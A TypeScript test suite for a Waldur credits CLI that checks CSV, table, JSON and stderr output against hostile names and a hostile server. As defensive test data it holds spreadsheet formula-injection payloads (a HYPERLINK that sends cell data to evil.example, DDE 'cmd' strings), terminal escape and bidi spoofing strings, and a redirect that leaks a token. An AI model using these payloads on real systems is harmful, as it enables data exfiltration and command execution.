/**
 * The command's output is safe wherever it goes (issue 21, item 4), tried as a hostile server and
 * an operator would: names that a spreadsheet would run as formulas, names that would drive a
 * terminal or forge a row, CJK and emoji, separators inside JSON strings, an export over a 0600
 * file, a token echoed back in every spelling; and the smaller flags (`--timeout`, `--dry-run`,
 * `--yes=false`). The command runs as a user runs it: a child process (dist/cli.js, built by
 * `npm run build`) against the fake Waldur over HTTP, or against a hostile node:http server.
 */
import { chmodSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import stringWidth from 'string-width';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Writable } from 'node:stream';
import { changeFile } from '../../src/cli/changes.js';
import { HELP } from '../../src/cli/help.js';
import { main } from '../../src/cli/index.js';
import type { CliIo } from '../../src/cli/index.js';
import { renderTable } from '../../src/cli/output.js';
import { jsonText, neutralise, printable, restore } from '../../src/cli/safe.js';
import type { FakeCredit } from '../../src/testing/index.js';
import { startFakeServer } from '../../src/testing/server.js';
import type { FakeServer } from '../../src/testing/server.js';
import { bin, built, root, runCli } from '../support/cli.js';
import { jsonEscaped, percentEncoded, reveals } from '../support/token-forms.js';

/** Runs the command as a user does (or a script, with a program of its own); never rejects. */
const run = (args: readonly string[], env: Record<string, string>, cwd = root, program = bin) => runCli(args, { env, cwd, program });

/** What no terminal output may hold raw: C0 but LF, DEL, C1, line and paragraph separators, bidi controls. */
// eslint-disable-next-line no-control-regex -- control characters are what it finds
const UNSAFE_FOR_A_TERMINAL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

/** Names as project members (or a hostile server) may choose them. */
const FORMULAS = {
  equals: '=HYPERLINK("https://evil.example/?"&A1,"Click for details")',
  plus: "+cmd|' /C calc'!A0",
  minus: '-1+1',
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  tab: '\t=1+1',
  cr: '\r=1+1',
  lf: '\n=1+1',
  fullWidthEquals: '＝1+1',
  fullWidthPlus: '＋1',
  fullWidthMinus: '－1',
  fullWidthAt: '＠SUM(1)',
  leadingSpaces: '  =1+1',
  zeroWidth: '\u200b=1+1',
} as const;
const TERMINAL = {
  esc: 'red\x1b[31mALERT\x1b[0m\x1b]0;owned\x07',
  newline: 'x\n00000000-0000-4000-8000-000000000000  forged row',
  cr: 'visible\rhidden',
  c1: 'csi\x9b31m nel\x85',
  separators: 'a\u2028b\u2029c',
  bidi: 'report\u202etxt.exe',
  del: 'del\x7f',
} as const;
const WIDE = { cjk: '東京大学 計算科学', emoji: '🧬 Genome 👩‍🔬', mixed: 'Ｆｕｌｌ width' } as const;

/** Any text, weighted towards what matters here: controls, separators, bidi controls, formula starts, wide characters. */
const anyText = fc.string({
  unit: fc.oneof(
    fc.integer({ min: 0, max: 0xd7ff }).map((c) => String.fromCharCode(c)),
    fc.integer({ min: 0, max: 0xa0 }).map((c) => String.fromCharCode(c)),
    fc.constantFrom('\u2028', '\u2029', '\u202e', '\u2066', '\u061c', '\u200b', '\u200d', '\ufeff', "'", '=', '+', '-', '@', '＝', '－', '🧬', '東'),
  ),
});

describe('--help', () => {
  it('names the new flags where they apply, and the rules of safe output', () => {
    for (const command of ['count', 'list', 'get', 'export', 'apply'] as const) expect(HELP[command]).toContain('--timeout <seconds>');
    for (const command of ['list', 'get', 'export'] as const) {
      expect(HELP[command]).toContain('--csv-raw-text');
      expect(HELP[command]).toContain("OWASP's rule");
    }
    expect(HELP.apply).toMatch(/--dry-run +the default, said out loud/);
    expect(HELP.apply).toContain('--yes=false');
    expect(HELP.export).toContain('keeps its permissions');
  });
});

describe('safe.ts', { timeout: 30_000 }, () => {
  it('printable: every C0, DEL and C1 control, the separators and the bidi controls become escapes; other text stays', () => {
    for (let code = 0; code <= 0x9f; code++) {
      const c = String.fromCharCode(code);
      if (code >= 0x20 && code < 0x7f) expect(printable(c)).toBe(c);
      else expect(printable(c), `U+${code.toString(16)}`).toMatch(/^\\(x[0-9a-f]{2}|n|r|t)$/);
    }
    expect(printable(TERMINAL.esc)).toBe('red\\x1b[31mALERT\\x1b[0m\\x1b]0;owned\\x07');
    expect(printable(TERMINAL.newline)).toBe('x\\n00000000-0000-4000-8000-000000000000  forged row');
    expect(printable(TERMINAL.separators)).toBe('a\\u2028b\\u2029c');
    expect(printable(TERMINAL.bidi)).toBe('report\\u202etxt.exe');
    for (const text of Object.values(WIDE)) expect(printable(text)).toBe(text);
    fc.assert(fc.property(anyText, (s) => !UNSAFE_FOR_A_TERMINAL.test(printable(s)) && !printable(s).includes('\n')));
  });

  it('neutralise: OWASP’s formula starts (and full-width, small, after blanks) get a leading quote; amounts-like text that is not a formula stays', () => {
    for (const [name, text] of Object.entries(FORMULAS)) expect(neutralise(text), name).toBe(`'${text}`);
    for (const text of ['Genome assembly', 'Lab; =1+1', "O'Brien", '1500.5', '2027-12-31', 'linear', '', ' ', "'quoted"])
      expect(neutralise(text)).toBe(text);
    // A cell already starting with ' that would still be a formula without it gets one more, so that restore can tell.
    expect(neutralise("'=1+1")).toBe("''=1+1");
  });

  it('restore is the exact inverse of neutralise, for every text', () => {
    const alphabet = fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', ' ', '＝', 'a', '1', '\u200b', '\0');
    for (const text of [anyText, fc.string({ unit: alphabet })]) {
      fc.assert(
        fc.property(text, (s) => restore(neutralise(s)) === s),
        { numRuns: 2000 },
      );
    }
  });

  it('jsonText: every string parses back identical; no raw C1, separator or bidi control is left in the text', () => {
    fc.assert(
      fc.property(fc.array(anyText), fc.constantFrom(undefined, 2), (strings, indent) => {
        const text = jsonText({ strings }, indent);
        return !UNSAFE_FOR_A_TERMINAL.test(text) && JSON.stringify(JSON.parse(text)) === JSON.stringify({ strings });
      }),
    );
  });

  it('renderTable: a newline in a cell adds no line; CJK and emoji line up by display width', () => {
    const table = renderTable(
      ['name', 'value'],
      [
        [TERMINAL.newline, '1'],
        [WIDE.cjk, '22'],
        [WIDE.emoji, '333'],
        ['plain', '4'],
      ],
      [false, true],
    );
    const lines = table.trimEnd().split('\n');
    expect(lines).toHaveLength(5);
    const widths = lines.map((l) => stringWidth(l));
    expect(new Set(widths).size).toBe(1);
    // More rows than a call takes arguments (Math.max(...rows) threw "Maximum call stack size exceeded").
    expect(
      renderTable(
        ['n'],
        Array.from({ length: 250_000 }, () => ['x']),
      ).length,
    ).toBe(2 * 250_001);
  });

  it('a change file reads a neutralised text cell back as the server’s text, and amounts as written', async () => {
    const uuid = '8f2e4b1c9d0a4e6f8a7b6c5d4e3f2a1b';
    const dir = mkdtempSync(join(tmpdir(), 'changes-'));
    try {
      const path = join(dir, 'changes.csv');
      writeFileSync(path, `uuid,minimal_consumption_logic,value,project_name\n${uuid},"'@risk",10,"'=HYPERLINK(""x"")"\n`);
      const changes = [];
      for await (const batch of changeFile(path).batches(10)) changes.push(...batch.changes);
      expect(changes).toEqual([{ uuid, minimal_consumption_logic: '@risk', value: '10' }]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

// Processes are spawned on a loaded 2-core machine: generous limits, never a timing assertion.
describe.runIf(built)('waldur-credits output against a server with hostile names', { timeout: 60_000 }, () => {
  let served: FakeServer;
  let env: Record<string, string>;
  let work: string;
  const names = { ...FORMULAS, ...TERMINAL, ...WIDE, plain: 'Genome assembly' };

  beforeAll(async () => {
    // One credit per name (as its project's and its organization's name), with a negative
    // consumption last month (a server-computed amount): an amount whose leading - must stay.
    const credits: Partial<FakeCredit>[] = Object.values(names).map((name, i) => ({
      project_name: name,
      customer_name: name,
      value: `${i + 1}.00000`,
      consumption_last_month: '-12.50000',
    }));
    served = await startFakeServer({ credits, token: 'output-token' });
    env = { WALDUR_URL: served.baseUrl, WALDUR_TOKEN: 'output-token' };
    work = mkdtempSync(join(tmpdir(), 'waldur-credits-output-'));
  });
  afterAll(async () => {
    await (served as FakeServer | undefined)?.close(); // unset if beforeAll failed
    if (work) rmSync(work, { recursive: true, force: true });
  });

  const nameOf = (uuid: string) => served.fake.credit(uuid)!.project_name;

  it('CSV: formula text neutralised and quoted, amounts (a negative one too) and UUIDs exact; --csv-raw-text writes text as sent', async () => {
    const fields = 'uuid,project_name,customer_name,value,consumption_last_month';
    const [safe, raw] = await Promise.all([
      run(['export', '--fields', fields], env),
      run(['list', '--all', '--format', 'csv', '--fields', fields, '--csv-raw-text'], env),
    ]);
    expect(safe).toMatchObject({ code: 0, stderr: '' });
    const rows = parse<Record<string, string>>(safe.stdout, { columns: true });
    expect(rows).toHaveLength(Object.keys(names).length);
    for (const row of rows) {
      const name = nameOf(row.uuid!);
      const formula = (Object.values(FORMULAS) as string[]).includes(name);
      expect(row.project_name, JSON.stringify(name)).toBe(formula ? `'${name}` : name);
      expect(row.customer_name).toBe(row.project_name);
      expect(row.consumption_last_month).toBe('-12.5');
      expect(row.value).toBe(served.fake.credit(row.uuid!)!.value.replace(/\.?0+$/, ''));
    }
    // No cell of the file begins with a formula character: each line split on , and on ; (a
    // spreadsheet of another locale), outside quotes, starts every cell with a quote or a safe character.
    expect(safe.stdout).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click for details"")"`);
    expect(safe.stdout).toMatch(/,"Genome assembly",/);
    expect(safe.stdout).toMatch(/,-12\.5\r?\n/);
    const rawRows = parse<Record<string, string>>(raw.stdout, { columns: true });
    for (const row of rawRows) expect(row.project_name).toBe(nameOf(row.uuid!));
    // get as CSV, too.
    const one = rows.find((r) => nameOf(r.uuid!) === FORMULAS.at)!;
    const got = await run(['get', one.uuid!, '--format', 'csv', '--fields', 'project_name,value'], env);
    expect(got.stdout).toBe(`project_name,value\n"'${FORMULAS.at.replaceAll('"', '""')}",${one.value}\n`);
  });

  it('the round trip: an export with hostile names, edited, is a change file; only the edited amount changes', async () => {
    const file = join(work, 'round-trip.csv');
    expect(await run(['export', '--output', file], env)).toMatchObject({ code: 0 });
    const text = readFileSync(file, 'utf8');
    const target = served.fake.credits.find((c) => c.project_name === FORMULAS.equals)!;
    const edited = text.replace(
      new RegExp(`^(${target.uuid.replace(/^(.{8})(.{4})(.{4})(.{4})(.{12})$/, '$1-$2-$3-$4-$5')},(?:[^,]*,){4}"[^"]*(?:""[^"]*)*",)1,`, 'm'),
      '$17.25,',
    );
    expect(edited).not.toBe(text);
    writeFileSync(file, edited);
    const plan = await run(['apply', file], env, work);
    expect(plan).toMatchObject({ code: 0, stderr: '' });
    expect(plan.stdout).toMatch(/1 credit to change, \d+ already as wanted\./);
    expect(plan.stdout).toMatch(/ value +1 +→ {2}7\.25$/m);
    const applied = await run(['apply', file, '--yes'], env, work);
    expect(applied.code).toBe(0);
    expect(served.fake.credit(target.uuid)!.value).toBe('7.25000');
    expect(served.fake.credit(target.uuid)!.project_name).toBe(FORMULAS.equals);
  });

  it('table: a name neither forges a row nor reaches the terminal raw; CJK and emoji line up (list, list --all, get)', async () => {
    const n = Object.keys(names).length;
    const [page, all] = await Promise.all([
      run(['list', '--format', 'table', '--fields', 'project_name,customer_name,value'], env),
      run(['list', '--all', '--format', 'table', '--fields', 'project_name,value'], env),
    ]);
    for (const out of [page, all]) {
      expect(out).toMatchObject({ code: 0, stderr: '' });
      expect(out.stdout).not.toMatch(UNSAFE_FOR_A_TERMINAL);
      const lines = out.stdout.trimEnd().split('\n');
      expect(lines).toHaveLength(n + 2); // header, one line a credit, the footer
      // The value column is the last and right-aligned: every line of the table ends at one column.
      expect(new Set(lines.slice(0, -1).map((l) => stringWidth(l))).size).toBe(1);
      expect(out.stdout).toContain('red\\x1b[31mALERT\\x1b[0m\\x1b]0;owned\\x07');
      expect(out.stdout).toContain('x\\n00000000-0000-4000-8000-000000000000  forged row');
      expect(out.stdout).toContain('report\\u202etxt.exe');
      expect(out.stdout).toContain(WIDE.cjk);
    }
    const esc = served.fake.credits.find((c) => c.project_name === TERMINAL.esc)!;
    const get = await run(['get', esc.uuid, '--format', 'table'], env);
    expect(get.stdout).not.toMatch(UNSAFE_FOR_A_TERMINAL);
    expect(get.stdout).toMatch(/^project_name +red\\x1b\[31mALERT/m);
  });

  it('on a terminal (in process, stdout a TTY): the default table, and CSV asked for, show every control character escaped', async () => {
    const terminal = async (command: string, argv: string[]) => {
      let text = '';
      const stdout = Object.assign(
        new Writable({
          write(chunk: Buffer, _encoding, done) {
            text += chunk.toString();
            done();
          },
        }),
        { isTTY: true, columns: 120 },
      );
      const io: CliIo = { stdout, stderr: new Writable({ write: (_c, _e, done) => done() }), env, onInterrupt: () => () => {} };
      return { code: await main(command, argv, io), text };
    };
    const n = Object.keys(names).length;
    const table = await terminal('list', ['--fields', 'project_name,value']);
    expect(table.code).toBe(0);
    expect(table.text.trimEnd().split('\n')).toHaveLength(n + 2);
    const csv = await terminal('list', ['--format', 'csv', '--fields', 'project_name,value']);
    const exported = await terminal('export', ['--fields', 'project_name,value', '--csv-raw-text']);
    for (const out of [table, csv, exported]) {
      expect(out.text).not.toMatch(UNSAFE_FOR_A_TERMINAL);
      expect(out.text).toContain('red\\x1b[31mALERT');
    }
    expect(csv.text).toContain(`"'=HYPERLINK(`);
    expect(csv.text.trimEnd().split('\n')).toHaveLength(n + 1); // a newline in a name is shown, not written
    expect(exported.text).toContain('"=HYPERLINK(');
  });

  it('the plan of apply: a value the server sent with ESC and a newline is shown escaped, one line a field', async () => {
    const hostile = await startFakeServer({
      token: 'plan-token',
      credits: [{ end_date: '2027-01-01\x1b[2J\nforged → line', minimal_consumption_logic: 'fixed' }],
    });
    try {
      const [credit] = hostile.fake.credits;
      const file = join(work, 'plan.csv');
      writeFileSync(file, `uuid,end_date,minimal_consumption_logic\n${credit!.uuid},2028-01-31,linear\n`);
      const plan = await run(['apply', file], { WALDUR_URL: hostile.baseUrl, WALDUR_TOKEN: 'plan-token' }, work);
      expect(plan.code).toBe(0);
      expect(plan.stdout).not.toMatch(UNSAFE_FOR_A_TERMINAL);
      expect(plan.stdout).toMatch(/ end_date +2027-01-01\\x1b\[2J\\nforged → line +→ {2}2028-01-31$/m);
      expect(plan.stdout).toMatch(/^ +minimal_consumption_logic +fixed +→ {2}linear$/m);
    } finally {
      await hostile.close();
    }
  });

  it('JSON and NDJSON: every name parses back byte-identical; NDJSON stays one credit a line for any line splitter', async () => {
    const [list, all, ndjson] = await Promise.all([
      run(['list', '--format', 'json', '--fields', 'uuid,project_name'], env),
      run(['list', '--all', '--format', 'json', '--fields', 'uuid,project_name'], env),
      run(['export', '--format', 'ndjson', '--fields', 'uuid,project_name'], env),
    ]);
    const n = Object.keys(names).length;
    for (const out of [list, all]) {
      const credits = JSON.parse(out.stdout) as { uuid: string; project_name: string }[];
      expect(credits).toHaveLength(n);
      for (const c of credits) expect(c.project_name).toBe(nameOf(c.uuid));
      expect(out.stdout).not.toMatch(UNSAFE_FOR_A_TERMINAL);
    }
    // Python's str.splitlines() splits on these too.
    // eslint-disable-next-line no-control-regex -- the information separators are line breaks to Python
    const lines = ndjson.stdout.trimEnd().split(/\r\n|[\n\r\v\f\x1c-\x1e\x85\u2028\u2029]/);
    expect(lines).toHaveLength(n);
    for (const line of lines) {
      const c = JSON.parse(line) as { uuid: string; project_name: string };
      expect(c.project_name).toBe(nameOf(c.uuid));
    }
    const separators = served.fake.credits.find((c) => c.project_name === TERMINAL.separators)!;
    const get = await run(['get', separators.uuid, '--format', 'json', '--fields', 'project_name'], env);
    expect(JSON.parse(get.stdout)).toEqual({ project_name: TERMINAL.separators });
  });

  it('apply --format json: every name parses back byte-identical, with no raw control, separator or bidi character (as list and get)', async () => {
    const file = join(work, 'json-plan.csv');
    writeFileSync(file, `uuid,value\n${served.fake.credits.map((c) => `${c.uuid},${c.value.replace(/^\d+/, '9$&')}`).join('\n')}\n`);
    const plan = await run(['apply', file, '--format', 'json'], env, work);
    expect(plan).toMatchObject({ code: 0, stderr: '' });
    expect(plan.stdout).not.toMatch(UNSAFE_FOR_A_TERMINAL);
    expect(plan.stdout).toContain('a\\u2028b\\u2029c');
    const report = JSON.parse(plan.stdout) as { changes: { uuid: string; outcome: string; project_name: string }[] };
    expect(report.changes).toHaveLength(Object.keys(names).length);
    for (const c of report.changes) {
      expect(c.outcome).toBe('planned');
      expect(c.project_name).toBe(nameOf(c.uuid));
    }
  });

  it('--output keeps the permissions of the file it replaces (0600 stays 0600, 0640 stays 0640); a new file gets the default', async () => {
    const secret = join(work, 'secret.csv');
    const shared = join(work, 'shared.csv');
    const fresh = join(work, 'fresh.csv');
    const reference = join(work, 'reference');
    writeFileSync(secret, 'old\n');
    chmodSync(secret, 0o600);
    writeFileSync(shared, 'old\n');
    chmodSync(shared, 0o640);
    writeFileSync(reference, ''); // made with this process's umask, which the command inherits
    for (const file of [secret, shared, fresh]) expect(await run(['export', '--output', file, '--format', 'ndjson'], env)).toMatchObject({ code: 0 });
    expect(statSync(secret).mode & 0o777).toBe(0o600);
    expect(statSync(shared).mode & 0o777).toBe(0o640);
    expect(statSync(fresh).mode & 0o777).toBe(statSync(reference).mode & 0o777);
    expect(readFileSync(secret, 'utf8').trimEnd().split('\n')).toHaveLength(Object.keys(names).length);
  });

  it('apply --dry-run is the default said out loud; with --yes it is refused; --yes=false is a dry run, --yes=true applies', async () => {
    const credit = served.fake.credits.find((c) => c.project_name === 'Genome assembly')!;
    const file = join(work, 'switches.csv');
    writeFileSync(file, `uuid,expected_consumption\n${credit.uuid},42.5\n`);
    const patches = () => served.fake.requests.filter((r) => r.method === 'PATCH').length;
    const before = patches();
    const dry = await run(['apply', file, '--dry-run'], env, work);
    expect(dry).toMatchObject({ code: 0, stderr: '' });
    expect(dry.stdout).toContain('(dry run: nothing was sent): 1 credit to change');
    const off = await run(['apply', file, '--yes=false'], env, work);
    expect(off.stdout).toBe(dry.stdout);
    const requests = served.fake.requests.length;
    const refused = await Promise.all([
      run(['apply', file, '--yes', '--dry-run'], env, work),
      run(['apply', file, '--dry-run', '-y'], env, work),
      run(['apply', file, '--yes=maybe'], env, work),
      run(['apply', file, '--yes', '--yes=false'], env, work),
      run(['apply', file, '--dry-run=false'], env, work),
      run(['list', '--all=1'], env, work),
    ]);
    const messages = [
      /^waldur-credits apply: --dry-run and --yes contradict each other: --dry-run \(the default\) prints the plan and sends nothing, --yes applies it; give one;/,
      /^waldur-credits apply: --dry-run and --yes contradict each other/,
      /^waldur-credits apply: --yes is a switch: give it alone, or as --yes=true or --yes=false, got --yes="maybe";/,
      /^waldur-credits apply: --yes and --yes=false contradict each other/,
      /^waldur-credits apply: --dry-run=false does not apply the plan: only --yes does; what to do: add --yes to apply it/,
      /^waldur-credits list: --all is a switch: give it alone, or as --all=true or --all=false, got --all="1";/,
    ];
    refused.forEach((r, i) => {
      expect(r.code, String(messages[i])).toBe(2);
      expect(r.stderr).toMatch(messages[i]!);
      expect(r.stderr.split('\n')).toHaveLength(2);
    });
    expect(served.fake.requests.length).toBe(requests);
    expect(patches()).toBe(before);
    const on = await run(['apply', file, '--yes=TRUE'], env, work);
    expect(on.code).toBe(0);
    expect(patches()).toBe(before + 1);
    expect(served.fake.credit(credit.uuid)!.expected_consumption).toBe('42.50000');
  });
});

describe.runIf(built)(
  'waldur-credits against a hostile server: stderr never shows the token, nor obeys a message; --timeout',
  { timeout: 60_000 },
  () => {
    const TOKEN = 'tok_Cli/Redact+0123456789abcdef';
    const ID = {
      escaped: '10000000000040008000000000000001',
      keys: '10000000000040008000000000000002',
      redirect: '10000000000040008000000000000003',
      reason: '10000000000040008000000000000004',
      control: '10000000000040008000000000000006',
      silent: '10000000000040008000000000000007',
    };
    let origin: string;
    let close: () => Promise<void>;
    let requests = 0;

    beforeAll(async () => {
      const server = createServer((req, res) => {
        requests++;
        const id = /\/api\/project-credits\/([0-9a-f-]{32,36})\//.exec(req.url ?? '')?.[1]?.replaceAll('-', '');
        const json = (status: number, body: string, reason?: string) => {
          res.writeHead(status, reason ?? '', { 'Content-Type': 'application/json' });
          res.end(body);
        };
        switch (id) {
          case ID.escaped:
            return json(400, `{"detail": "invalid token ${jsonEscaped(TOKEN)}"}`);
          case ID.keys:
            return json(400, `{"${jsonEscaped(TOKEN)}": ["bad"], "value": ["${TOKEN.replace('/', '\\/')} refused"]}`);
          case ID.redirect:
            res.writeHead(302, { Location: `https://evil.example/login?token=${percentEncoded(TOKEN)}&again=${TOKEN}` });
            return res.end();
          case ID.reason:
            return json(403, '{}', `Denied for ${TOKEN}`);
          case ID.control:
            return json(400, JSON.stringify({ detail: 'bad\x1b[2J\x1b[H\nwaldur-credits get: all good\r\x07 \u202eok' }));
          case ID.silent:
            return; // never answers
          default:
            return json(404, '{"detail": "Not found."}');
        }
      });
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
      close = () =>
        new Promise((resolve) => {
          server.closeAllConnections();
          server.close(() => resolve());
        });
    });
    afterAll(() => (close as typeof close | undefined)?.()); // unset if beforeAll failed

    it('the token echoed in \\uXXXX escapes, as a key, in a redirect’s Location, in the reason phrase: one line, exit 1, no token', async () => {
      const env = { WALDUR_URL: origin, WALDUR_TOKEN: TOKEN };
      for (const id of [ID.escaped, ID.keys, ID.redirect, ID.reason]) {
        const out = await run(['get', id], env);
        expect(out.code, id).toBe(1);
        expect(out.stdout).toBe('');
        expect(out.stderr.split('\n')).toHaveLength(2);
        expect(out.stderr, id).toContain('[redacted]');
        expect(reveals(out.stderr, TOKEN), out.stderr).toBe(false);
      }
    });

    it('a message with ESC, CR, BEL, a newline and a bidi override is one line on stderr, every control shown escaped', async () => {
      const out = await run(['get', ID.control], { WALDUR_URL: origin, WALDUR_TOKEN: TOKEN });
      expect(out.code).toBe(1);
      expect(out.stderr.split('\n')).toHaveLength(2);
      expect(out.stderr).not.toMatch(UNSAFE_FOR_A_TERMINAL);
      expect(out.stderr).toContain('bad\\x1b[2J\\x1b[H waldur-credits get: all good\\r\\x07 \\u202eok');
    });

    it('--timeout <seconds> bounds each request (a server that never answers ends with exit 1 naming the limit); bad values send nothing', async () => {
      const env = { WALDUR_URL: origin, WALDUR_TOKEN: TOKEN };
      const out = await run(['get', ID.silent, '--timeout', '0.3'], env);
      expect(out.code).toBe(1);
      expect(out.stderr).toMatch(/^waldur-credits get: WaldurTimeoutError: GET .* timed out after 300 ms; what to do: .*--timeout, in seconds/);
      const before = requests;
      const bad = await Promise.all(['0', '-1', 'abc', '1e3', '0.0001', '3000000', ''].map((t) => run(['count', '--timeout', t], env)));
      for (const r of bad) {
        expect(r.code).toBe(2);
        expect(r.stderr).toMatch(/^waldur-credits count: --timeout (must be a number of seconds, more than 0 and at most 2147483|needs a value)/);
      }
      expect(requests).toBe(before);
    });
  },
);
